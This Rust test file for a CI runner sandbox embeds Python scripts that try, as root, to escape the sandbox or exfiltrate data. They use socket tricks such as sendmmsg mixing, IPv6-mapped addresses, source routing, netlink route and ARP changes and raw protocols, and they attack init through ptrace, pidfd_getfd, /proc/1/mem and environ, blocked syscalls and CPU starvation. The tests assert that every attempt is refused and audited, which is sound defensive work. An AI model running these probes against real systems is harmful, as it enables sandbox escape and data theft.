//! Socket tricks and calls that reach for the sandbox init or the kernel, from inside
//! real sandboxes as root: mixed-destination sendmmsg, IPv6 spellings of IPv4
//! addresses, SO_BINDTODEVICE, fragments, source routing, broadcast, connected-then-
//! redirected UDP, TCP repair, transparent and free binds, MPTCP and UDP-Lite, netlink
//! changes to the runner's own network, tun; ptrace, process_vm_readv, pidfd_getfd and
//! /proc of init, signals to init; and every kernel-reaching call the seccomp filter
//! refuses; init's limits, scheduling and kept handles; refusals from threads and from
//! floods of threads, each naming its process. Nothing may reach a trap, each attempt is
//! refused, and each egress attempt and refused call is in the audit log.

use std::time::{Duration, Instant};

use runner_agent_tests::agent::{
    describe, indent, python_job, read_audit, seccomp_denials, World, HOST_SIDE,
};
use runner_agent_tests::netbed::{allowed_test_bed, settle, TRAP_IPS};
use runner_agent_tests::require_privilege;

/// What a job of attacks printed and recorded.
struct Ran {
    events: Vec<serde_json::Value>,
    stdout: String,
    /// Its `LEAK ...` lines: attempts that got through.
    holes: Vec<String>,
}

/// Runs `job` (its attacks print `LEAK name` for each that got through) and shows what
/// it printed and recorded.
fn run(world: &World, job: &std::path::Path) -> Ran {
    let (output, events) = world.run_audited(job);
    settle();
    println!("{}", describe(&output));
    for e in &events {
        println!("EVENT {e}");
    }
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let holes = stdout
        .lines()
        .filter(|l| l.starts_with("LEAK "))
        .map(str::to_owned)
        .collect();
    Ran {
        events,
        stdout,
        holes,
    }
}

/// Socket tricks not covered elsewhere; each prints `BLOCKED name` or `LEAK name`.
const NET_ATTACKS: &str = r#"
import ctypes, socket, struct, sys, time, errno
trap = sys.argv[1]
host_side = sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
def report(name, ok, detail=""):
    print(("LEAK " if ok else "BLOCKED ") + name + (" " + str(detail) if detail else ""), flush=True)
def attempt(name, fn):
    try:
        r = fn()
        report(name, bool(r), r)
    except OSError as e:
        report(name, False, e)
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07allowed\x04test\x00\x00\x01\x00\x01"
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
class msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.c_void_p),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]
class mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", msghdr), ("len", ctypes.c_uint)]
keep = []
def mk(addr_bytes, payload):
    a = ctypes.create_string_buffer(addr_bytes, len(addr_bytes)); d = ctypes.create_string_buffer(payload, len(payload))
    iov = iovec(ctypes.cast(d, ctypes.c_void_p), len(payload)); keep.extend([a, d, iov])
    return mmsghdr(msghdr(ctypes.cast(a, ctypes.c_void_p), len(addr_bytes), ctypes.cast(ctypes.pointer(iov), ctypes.c_void_p), 1, None, 0, 0), 0)
def sin(ip, port):
    return struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(ip) + b"\0" * 8
# 1. sendmmsg: first message DNS (redirected, allowed), second and third to the trap.
def mixed():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    msgs = (mmsghdr * 3)(mk(sin(trap, 53), query), mk(sin(trap, 9001), b"exfil-mmsg-2"), mk(sin(trap, 53), b"exfil-mmsg-3"))
    n = libc.sendmmsg(s.fileno(), msgs, 3, 0)
    e = ctypes.get_errno()
    print("sendmmsg returned", n, "errno", e, flush=True)
    # Retry from the second message, as a caller would.
    n2 = libc.sendmmsg(s.fileno(), ctypes.byref(msgs[1]), 1, 0)
    return n2 > 0
attempt("sendmmsg-mixed", mixed)
# 2. IPv4-compatible, NAT64, 6to4 and Teredo spellings of the trap (UDP and TCP).
t = socket.inet_aton(trap)
hexq = "%02x%02x:%02x%02x" % tuple(t)
for label, a6 in (("v4-compat", "::" + trap), ("nat64", "64:ff9b::" + trap), ("6to4", "2002:" + hexq + "::1"),
                  ("v4-translated", "::ffff:0:" + trap), ("teredo", "2001:0:" + hexq + "::1")):
    def u(a6=a6):
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); return s.sendto(b"exfil6", (a6, 9002)) > 0
    def tc(a6=a6):
        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.settimeout(2); s.connect((a6, 5432)); s.sendall(b"x"); return bool(s.recv(10))
    attempt("udp6-" + label, u)
    attempt("tcp6-" + label, tc)
# 3. SO_BINDTODEVICE to lo or eth0, then the trap.
for dev in (b"lo", b"eth0"):
    def u(dev=dev):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, dev)
        return s.sendto(b"exfil-bind", (trap, 9003)) > 0
    attempt("udp-bindtodevice-" + dev.decode(), u)
# 4. The largest UDP datagram toward DNS (65,507 bytes; fragmented on a 1500-byte link,
#    whole on the runner's 65535-byte one): it reaches only the DNS filter. Crafted
#    fragments need a raw socket; ebpf_attacks injects them at the veth.
def frag():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, 10, 0)  # IP_MTU_DISCOVER = IP_PMTUDISC_DONT
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    s.settimeout(2)
    s.sendto(query + b"F" * (65507 - len(query)), (trap, 53))
    try:
        return len(s.recv(600)) > 0 and False
    except OSError:
        return False
attempt("udp-fragmented-dns", frag)
# 5. Loose and strict source routes (IP_OPTIONS) through the host side to the trap.
def srr(kind, first, sock_type):
    hops = socket.inet_aton(first) + socket.inet_aton(trap)
    opt = bytes([1, kind, 3 + len(hops), 4]) + hops
    s = socket.socket(socket.AF_INET, sock_type)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, opt)
    s.settimeout(2)
    if sock_type == socket.SOCK_DGRAM:
        return s.sendto(b"exfil-srr", (trap, 53)) > 0 and False  # sent to the filter only
    s.connect((trap, 5432)); s.sendall(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"); d = s.recv(100)
    return bool(d) and b" 403 " not in d and b" 400 " not in d
for kind, kname in ((0x83, "lsrr"), (0x89, "ssrr")):
    for first in (host_side, trap):
        for st, sname in ((socket.SOCK_DGRAM, "udp"), (socket.SOCK_STREAM, "tcp")):
            attempt("%s-%s-via-%s" % (sname, kname, "host" if first == host_side else "trap"), lambda: srr(kind, first, st))
# 6. Subnet broadcast of the runner's /30 on the proxy's ports.
for port in (3053, 3128, 9004):
    def b(port=port):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        net = host_side.rsplit(".", 1)[0] + "." + str(int(host_side.rsplit(".", 1)[1]) + 2)
        return s.sendto(b"bcast", (net, port)) > 0
    attempt("udp-subnet-broadcast-%d" % port, b)
# 7. Connected UDP (to DNS) then sendto another destination on the same socket.
def conn_then_sendto():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((trap, 53)); s.send(query)
    return s.sendto(b"exfil-after-connect", (trap, 9005)) > 0
attempt("udp-connected-then-sendto", conn_then_sendto)
# 8. TCP_REPAIR, MPTCP, SCTP, UDP-Lite, DCCP.
def repair():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.setsockopt(socket.IPPROTO_TCP, 19, 1); return True
attempt("tcp-repair", repair)
for name, typ, proto in (("mptcp", socket.SOCK_STREAM, 262), ("sctp-stream", socket.SOCK_STREAM, 132),
                         ("sctp-seqpacket", socket.SOCK_SEQPACKET, 132), ("udplite", socket.SOCK_DGRAM, 136),
                         ("dccp", 6, 33), ("mptcp6", socket.SOCK_STREAM, 262)):
    def mk_sock(typ=typ, proto=proto, name=name):
        fam = socket.AF_INET6 if name.endswith("6") else socket.AF_INET
        s = socket.socket(fam, typ, proto); s.settimeout(2)
        s.connect((("::ffff:" + trap) if fam == socket.AF_INET6 else trap, 5432)); s.send(b"exfil-" + name.encode()); return True
    attempt("proto-" + name, mk_sock)
# 9. IP_TRANSPARENT and binding to the host side's address.
def transparent():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.IPPROTO_IP, 19, 1); return True
attempt("ip-transparent", transparent)
def bind_host():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.IPPROTO_IP, 15, 1)  # IP_FREEBIND
    s.bind((host_side, 3053)); return s.sendto(b"spoof", (trap, 53)) > 0 and False
attempt("freebind-host-side", bind_host)
# 10. Netlink: add an address in the trap's subnet, a route, a neighbour (ARP spoof).
import subprocess
for label, cmd in (("addr", "ip addr add 203.0.113.99/24 dev eth0"), ("route", "ip route add 203.0.113.0/24 dev eth0"),
                   ("default-route", "ip route add default dev eth0"), ("neigh", "ip neigh replace %s lladdr 02:00:00:00:00:01 dev eth0" % host_side),
                   ("link-down", "ip link set eth0 down"), ("tuntap", "ip tuntap add tap9 mode tap"),
                   ("sysctl-forward", "sysctl -w net.ipv4.ip_forward=1"), ("sysctl-srr", "sysctl -w net.ipv4.conf.all.accept_source_route=1")):
    r = subprocess.run(cmd.split(), capture_output=True)
    report("netlink-" + label, r.returncode == 0, r.stderr.decode().strip())
# 11. ICMPv6 ping socket, ICMP over a UDP socket is not possible; tun device.
def tun():
    import os
    return os.open("/dev/net/tun", os.O_RDWR) >= 0
attempt("dev-net-tun", tun)
"#;

#[test]
fn more_socket_tricks_get_nowhere() {
    require_privilege!();
    let (bed, world) = allowed_test_bed();
    let trap = TRAP_IPS[0];
    let job = world.job(
        "net.yaml",
        &python_job(
            "net",
            "socket tricks",
            HOST_SIDE,
            &format!("{trap} $host_side"),
            NET_ATTACKS,
        ),
    );
    let Ran {
        events, mut holes, ..
    } = run(&world, &job);
    let hits = bed.trap_hits();
    if !hits.is_empty() {
        holes.push(format!("trap hits: {hits:?}"));
    }
    let t = trap.to_string();
    for port in [9001u16, 9003, 9005] {
        if !events
            .iter()
            .any(|e| e["verdict"] == "deny" && e["ip"] == t.as_str() && e["port"] == port)
        {
            holes.push(format!("no deny event for {t}:{port}"));
        }
    }
    // MPTCP, MPTCP over IPv6 and UDP-Lite: refused at sock_create, one event each, each
    // naming the kind of socket.
    for kind in [
        "AF_INET SOCK_STREAM, protocol 262 MPTCP",
        "AF_INET6 SOCK_STREAM, protocol 262 MPTCP",
        "AF_INET SOCK_DGRAM, protocol 136 UDP-Lite",
    ] {
        let recorded = events.iter().any(|e| {
            e["verdict"] == "deny"
                && e["pid"].is_number()
                && e["reason"]
                    .as_str()
                    .is_some_and(|r| r.starts_with("sock_create") && r.contains(kind))
        });
        if !recorded {
            holes.push(format!("no sock_create deny event for {kind}"));
        }
    }
    assert!(holes.is_empty(), "holes:\n{}", holes.join("\n"));
}

/// Reaching pid 1 (the init that answers seccomp and talks to the agent) and calls the
/// filter should refuse.
const PRIV_ATTACKS: &str = r#"
import ctypes, os, signal, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def report(name, ok, detail=""):
    print(("LEAK " if ok else "BLOCKED ") + name + " " + str(detail), flush=True)
def sc(name, nr, *args):
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args])
    report(name, r >= 0, "ret %d errno %d" % (r, ctypes.get_errno()))
# ptrace(PTRACE_ATTACH/SEIZE) of init
sc("ptrace-attach-init", 101, 16, 1, 0, 0)
sc("ptrace-seize-init", 101, 0x4206, 1, 0, 0)
# process_vm_readv of init
buf = ctypes.create_string_buffer(64)
local = struct.pack("QQ", ctypes.addressof(buf), 64)
remote = struct.pack("QQ", 0x400000, 64)
lb = ctypes.create_string_buffer(local, 16); rb = ctypes.create_string_buffer(remote, 16)
sc("process-vm-readv-init", 310, 1, ctypes.addressof(lb), 1, ctypes.addressof(rb), 1, 0)
# pidfd_open + pidfd_getfd of init's fd 0 (the control socket)
pfd = libc.syscall(ctypes.c_long(434), ctypes.c_long(1), ctypes.c_long(0))
print("pidfd_open(1) =", pfd, ctypes.get_errno(), flush=True)
if pfd >= 0:
    for fd in range(0, 8):
        sc("pidfd-getfd-init-%d" % fd, 438, pfd, fd, 0)
# /proc/1 files
for f in ("mem", "environ", "fd/0", "ns/net", "ns/user", "root/", "maps", "syscall", "stack"):
    try:
        fd = os.open("/proc/1/" + f, os.O_RDONLY)
        report("open-proc1-" + f, True)
        os.close(fd)
    except OSError as e:
        report("open-proc1-" + f, False, e)
# Signals to init that it handles or blocks
for sig in (signal.SIGCHLD, signal.SIGSTOP, signal.SIGTERM, signal.SIGXCPU):
    try:
        os.kill(1, sig)
        print("signal", sig, "sent to init", flush=True)
    except OSError as e:
        print("signal", sig, "refused", e, flush=True)
# Calls the filter should refuse
sc("userfaultfd", 323, 0)
sc("perf_event_open", 298, 0, 0, -1, -1, 0)
sc("keyctl", 250, 0, 0)
sc("add_key", 248, 0, 0, 0, 0, 0)
sc("open_by_handle_at", 304, 0, 0, 0)
sc("fsopen", 430, 0, 0)
sc("open_tree", 428, -100, 0, 0)
sc("move_mount", 429, -100, 0, -100, 0, 0)
sc("fsmount", 432, 0, 0, 0)
sc("fspick", 433, -100, 0, 0)
sc("mount_setattr", 442, -100, 0, 0, 0, 0)
sc("pivot_root", 155, 0, 0)
sc("setns", 308, 0, 0)
sc("io_uring_setup", 425, 8, 0)
sc("io_uring_register", 427, 0, 0, 0, 0)
sc("clone-newuser", 56, 0x10000000 | 17, 0, 0, 0, 0)
sc("clone-newtime-unshare", 272, 0x80)
sc("kexec_file_load", 320, 0, 0, 0, 0, 0)
sc("syslog", 103, 3, 0, 0)
sc("quotactl", 179, 0, 0, 0, 0)
sc("lookup_dcookie", 212, 0, 0, 0)
sc("name_to_handle_at", 303, -100, 0, 0, 0, 0)
print("PRIV-DONE", flush=True)
"#;

#[test]
fn init_and_kernel_reaching_calls_are_out_of_reach() {
    require_privilege!();
    let (_bed, world) = allowed_test_bed();
    let job = world.job(
        "priv.yaml",
        &format!(
            "name: priv\nsteps:\n  - name: reach init and the kernel\n    run: |\n      python3 - <<'PY'\n{}\n      PY\n      echo after\n  - name: still served\n    run: echo NEXT-STEP-RAN\n",
            indent(PRIV_ATTACKS, 6)
        ),
    );
    let Ran {
        events,
        stdout,
        mut holes,
    } = run(&world, &job);
    if !stdout.contains("PRIV-DONE") || !stdout.contains("NEXT-STEP-RAN") {
        holes.push("the attacks or the next step did not run".into());
    }
    for call in [
        "userfaultfd()",
        "perf_event_open()",
        "keyctl()",
        "add_key()",
        "open_by_handle_at()",
        "fsopen()",
        "open_tree()",
        "move_mount()",
        "fsmount()",
        "fspick()",
        "mount_setattr()",
        "pivot_root()",
        "setns()",
        "io_uring_setup()",
        "io_uring_register()",
        "kexec_file_load()",
        "syslog()",
        "quotactl()",
        "lookup_dcookie()",
        "name_to_handle_at()",
    ] {
        let prefix = format!("seccomp: {call}");
        if !events.iter().any(|e| {
            e["verdict"] == "deny" && e["reason"].as_str().is_some_and(|r| r.starts_with(&prefix))
        }) {
            holes.push(format!("no audit event for {call}"));
        }
    }
    assert!(holes.is_empty(), "holes:\n{}", holes.join("\n"));
}

/// A refused call made by a thread other than the main one is as attributable as one
/// made by the main thread: the event names the host pid of its process. (Found by an attack
/// run: init's pidfd lookup used the caller's thread id, which pidfd_open refuses for a
/// thread other than the main one.)
const THREAD_REFUSAL: &str = r#"
import socket, threading, os, ctypes
libc = ctypes.CDLL(None, use_errno=True)
def refuse(tag):
    # name the thread so that its event can be told apart
    libc.prctl(15, ctypes.c_char_p(tag.encode()), 0, 0, 0)
    try:
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        print("LEAK socket created in", tag, flush=True)
    except OSError as e:
        print("refused in", tag, e, flush=True)
refuse("mainthr")
t = threading.Thread(target=refuse, args=("sidethr",))
t.start(); t.join()
print("THREADS-DONE", flush=True)
"#;

#[test]
fn a_refusal_from_a_thread_names_its_process() {
    require_privilege!();
    let world = World::new("", "");
    let job = world.job(
        "thread.yaml",
        &python_job("thread", "refuse from a thread", "", "", THREAD_REFUSAL),
    );
    let (output, events) = world.run_audited(&job);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("THREADS-DONE"), "{}", describe(&output));
    assert!(!stdout.contains("LEAK"), "{}", describe(&output));
    let refusals = seccomp_denials(&events, "socket(AF_PACKET").collect::<Vec<_>>();
    let main = refusals
        .iter()
        .find(|e| e["comm"] == "mainthr")
        .unwrap_or_else(|| panic!("no main-thread refusal: {refusals:?}"));
    let side = refusals
        .iter()
        .find(|e| e["comm"] == "sidethr")
        .unwrap_or_else(|| panic!("no side-thread refusal: {refusals:?}"));
    assert!(main["pid"].is_u64(), "main thread's refusal: {main}");
    assert!(
        side["pid"].is_u64(),
        "a refused call made from a second thread names no process (pid null): {side}\n(main thread: {main})"
    );
    assert_eq!(
        side["pid"], main["pid"],
        "one process, two host pids: {side} / {main}"
    );
    world.assert_job_left_nothing(&output);
}

/// Refused calls from threads, while the runner holds many processes: neither init nor
/// the agent's remembered pids name a thread, so every such refusal sends the agent
/// through every process of the runner, outside the runner's limits. The step's own
/// timeout (20 s) must still be what ends it, promptly, and the next step must run; every
/// refusal names its process; and the agent does not spend more than half a CPU on it.
#[test]
fn a_thread_flood_with_many_processes_does_not_stretch_a_step_timeout() {
    require_privilege!();
    let world = World::new("limits: { pids: 4096, memory: 3GiB, timeout: 3m }", "");
    let job = world.job(
        "threadflood.yaml",
        r#"name: threadflood
steps:
  - name: crowd
    run: |
      # 1500 idle processes outside the step's process group: they outlive its timeout
      for i in $(seq 1500); do setsid sleep 600 </dev/null >/dev/null 2>&1 & done
      sleep 2
      echo CROWD=$(ls /proc | grep -c '^[0-9]')
  - name: flood from threads
    timeout: 20s
    continue-on-error: true
    run: |
      python3 -c '
      import socket, threading, time
      def go():
          while True:
              try:
                  socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
              except OSError:
                  pass
      for i in range(16):
          threading.Thread(target=go, daemon=True).start()
      time.sleep(600)
      '
  - name: next
    run: echo NEXT-STEP-RAN
"#,
    );
    let audit = world.state_dir.join("threadflood.jsonl");
    let began = Instant::now();
    let mut child = world.spawn_with(&job, &["--audit-log", &audit.to_string_lossy()]);
    // The agent's CPU time (utime + stime, ticks), outside every limit of the runner.
    let agent = child.id();
    let mut agent_ticks = 0u64;
    while child.try_wait().expect("wait").is_none() {
        if let Ok(stat) = std::fs::read_to_string(format!("/proc/{agent}/stat")) {
            let f: Vec<&str> = stat
                .rsplit(')')
                .next()
                .unwrap_or("")
                .split_whitespace()
                .collect();
            let t = f.get(11).and_then(|v| v.parse::<u64>().ok()).unwrap_or(0)
                + f.get(12).and_then(|v| v.parse::<u64>().ok()).unwrap_or(0);
            agent_ticks = agent_ticks.max(t);
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let output = child.wait_with_output().expect("wait");
    let took = began.elapsed();
    eprintln!(
        "agent CPU: {:.1}s over {:.1}s",
        agent_ticks as f64 / 100.0,
        took.as_secs_f64()
    );
    let stdout = String::from_utf8_lossy(&output.stdout);
    let events = read_audit(&audit);
    let refusals = seccomp_denials(&events, "socket(AF_PACKET").collect::<Vec<_>>();
    let no_pid = refusals.iter().filter(|e| e["pid"].is_null()).count();
    eprintln!(
        "took {:.1}s, {} refusals recorded, {} without a pid",
        took.as_secs_f64(),
        refusals.len(),
        no_pid
    );
    let flood_line = stdout
        .lines()
        .find(|l| l.contains("flood from threads:"))
        .unwrap_or("")
        .to_owned();
    assert!(
        stdout.contains("NEXT-STEP-RAN"),
        "the step after a 20 s step never ran (job took {:.1}s; flood step: {flood_line}; {} refusals recorded, {} without pid)\n{}",
        took.as_secs_f64(),
        refusals.len(),
        no_pid,
        describe(&output)
    );
    assert!(
        took < Duration::from_secs(60),
        "a 20 s step timeout took the job {:.1}s (flood step: {flood_line})",
        took.as_secs_f64()
    );
    assert!(
        (agent_ticks as f64 / 100.0) < took.as_secs_f64() / 2.0,
        "the agent spent {:.1}s of CPU over a {:.1}s job recording {} refusals",
        agent_ticks as f64 / 100.0,
        took.as_secs_f64(),
        refusals.len()
    );
    // A thread killed at the step's timeout while waiting in a refused call gets no host
    // pid (it no longer has one to name): at most one per flooding thread.
    assert!(
        no_pid <= 16,
        "{no_pid} of {} refusals name no process",
        refusals.len()
    );
    world.assert_job_left_nothing(&output);
}

/// The job cannot change how init is scheduled: renice, SCHED_IDLE and an idle I/O
/// priority on pid 1 are refused and recorded, like prlimit64 (init enforces step
/// timeouts and answers every refused call; a job that starved it stretched a 2 s step
/// timeout to 20 s, found by an attack run).
#[test]
fn the_job_cannot_change_init_scheduling() {
    require_privilege!();
    let world = World::new("", "");
    let job = world.job(
        "sched.yaml",
        r#"name: sched
steps:
  - name: reschedule init
    run: |
      python3 - <<'PY'
      import os, ctypes
      libc = ctypes.CDLL(None, use_errno=True)
      def stat1():
          f = open("/proc/1/stat").read().rsplit(")", 1)[1].split()
          # fields after comm: state is index 0 (field 3); nice field 19 -> 16; policy field 41 -> 38
          return int(f[16]), int(f[38])
      print("BEFORE nice,policy", stat1(), flush=True)
      for name, fn in [
          ("setpriority", lambda: os.setpriority(os.PRIO_PROCESS, 1, 19)),
          ("sched_setscheduler-idle", lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0))),
          ("ioprio_set-idle", lambda: (_ for _ in ()).throw(OSError(ctypes.get_errno(), "ioprio")) if libc.syscall(251, 1, 1, 3 << 13) < 0 else None),
      ]:
          try:
              fn(); print("CHANGED", name, flush=True)
          except OSError as e:
              print("REFUSED", name, e, flush=True)
      print("AFTER nice,policy", stat1(), flush=True)
      PY
"#,
    );
    let (output, events) = world.run_audited(&job);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stdout.contains("AFTER nice,policy"),
        "{}",
        describe(&output)
    );
    assert!(
        !stdout.contains("CHANGED"),
        "the job changed init's scheduling:\n{}",
        stdout
            .lines()
            .filter(|l| l.contains("CHANGED") || l.contains("nice,policy"))
            .collect::<Vec<_>>()
            .join("\n")
    );
    for call in [
        "setpriority(which 0, who 1)",
        "sched_setscheduler(pid 1)",
        "ioprio_set(which 1, who 1)",
    ] {
        let refused: Vec<_> = seccomp_denials(&events, call).collect();
        assert!(
            refused
                .iter()
                .any(|e| e["comm"] == "python3" && e["pid"].is_number()),
            "no refusal of {call} recorded: {events:#?}"
        );
    }
    world.assert_job_left_nothing(&output);
}

/// With init at SCHED_IDLE / nice 19 (if the job can put it there) and the runner's CPUs
/// held by busy loops that outlive the step, a step's timeout still ends it on time and
/// the next step starts.
#[test]
fn a_starved_init_still_ends_a_step_on_time() {
    starved_init(true);
}

/// Control for the test above: the same busy runner and refused calls, init left alone.
#[test]
fn control_a_busy_runner_with_init_untouched_ends_a_step_on_time() {
    starved_init(false);
}

fn starved_init(touch_init: bool) {
    require_privilege!();
    let world = World::new("limits: { cpus: 1, timeout: 2m }", "");
    let touch = if touch_init {
        "python3 -c 'import os; os.setpriority(os.PRIO_PROCESS, 1, 19)' || true\n      python3 -c 'import os; os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0))' || true\n      kill -STOP 1 || true\n      kill -TSTP 1 || true"
    } else {
        "true"
    };
    let job = world.job(
        "starve.yaml",
        &r#"name: starve
steps:
  - name: starve init
    run: |
      TOUCH
      for i in $(seq 16); do setsid sh -c 'while :; do :; done' </dev/null >/dev/null 2>&1 & done
  - name: must time out
    timeout: 2s
    continue-on-error: true
    run: |
      # refused calls, so that init has work, and a long sleep
      python3 -c '
      import socket, time
      end = time.time() + 60
      while time.time() < end:
          try: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
          except OSError: pass
      '
  - name: next
    run: echo NEXT-STEP-RAN
"#
        .replace("TOUCH", touch),
    );
    let began = Instant::now();
    let output = world.run(&job);
    let stdout = String::from_utf8_lossy(&output.stdout);
    let line = stdout
        .lines()
        .find(|l| l.contains("must time out:"))
        .unwrap_or("")
        .to_owned();
    eprintln!("{line} (job {:.1}s)", began.elapsed().as_secs_f64());
    let secs: f64 = line
        .rsplit('(')
        .next()
        .and_then(|s| s.trim_end_matches("s)").parse().ok())
        .unwrap_or(f64::MAX);
    assert!(line.contains("timed out"), "{}", describe(&output));
    assert!(
        secs < 4.0,
        "a 2 s step timeout ended the step after {secs}s"
    );
    assert!(stdout.contains("NEXT-STEP-RAN"), "{}", describe(&output));
    world.assert_job_left_nothing(&output);
}

/// init's kept handles (the host's /proc, its oom_score_adj, the seccomp listener, the
/// control socket) stay out of reach of every step process, also through fdinfo and
/// pidfd_getfd over a wider range of descriptor numbers than earlier tests looked at.
#[test]
fn init_kept_handles_are_out_of_reach() {
    require_privilege!();
    let world = World::new("", "");
    let job = world.job(
        "handles.yaml",
        r#"name: handles
steps:
  - name: reach init handles
    run: |
      python3 - <<'PY'
      import ctypes, os
      libc = ctypes.CDLL(None, use_errno=True)
      libc.syscall.restype = ctypes.c_long
      leaks = []
      for d in ("/proc/1/fd", "/proc/1/fdinfo", "/proc/1/map_files"):
          try:
              leaks.append("listed %s: %s" % (d, os.listdir(d)))
          except OSError as e:
              pass
      for n in range(0, 64):
          for d in ("fd", "fdinfo"):
              try:
                  fd = os.open("/proc/1/%s/%d" % (d, n), os.O_RDONLY | os.O_PATH if d == "fd" else os.O_RDONLY)
                  leaks.append("opened /proc/1/%s/%d -> %s" % (d, n, os.readlink("/proc/self/fd/%d" % fd)))
                  os.close(fd)
              except OSError:
                  pass
      pfd = libc.syscall(ctypes.c_long(434), ctypes.c_long(1), ctypes.c_long(0))
      if pfd >= 0:
          for n in range(0, 64):
              r = libc.syscall(ctypes.c_long(438), ctypes.c_long(pfd), ctypes.c_long(n), ctypes.c_long(0))
              if r >= 0:
                  leaks.append("pidfd_getfd(init, %d) -> %s" % (n, os.readlink("/proc/self/fd/%d" % r)))
      # what a step holds itself
      mine = sorted(int(x) for x in os.listdir("/proc/self/fd"))
      for n in mine:
          try:
              t = os.readlink("/proc/self/fd/%d" % n)
          except OSError:
              continue
          if n > 2 and not t.startswith("/proc/%d/fd" % os.getpid()) and "fd" not in t:
              leaks.append("step holds fd %d -> %s" % (n, t))
      ppid_fds = sorted(os.listdir("/proc/%d/fd" % os.getppid()))
      print("parent bash fds", ppid_fds, flush=True)
      for l in leaks:
          print("LEAK", l, flush=True)
      print("HANDLES-DONE", flush=True)
      PY
"#,
    );
    let output = world.run(&job);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("HANDLES-DONE"), "{}", describe(&output));
    let leaks: Vec<&str> = stdout.lines().filter(|l| l.starts_with("LEAK")).collect();
    assert!(leaks.is_empty(), "{}", leaks.join("\n"));
    world.assert_job_left_nothing(&output);
}
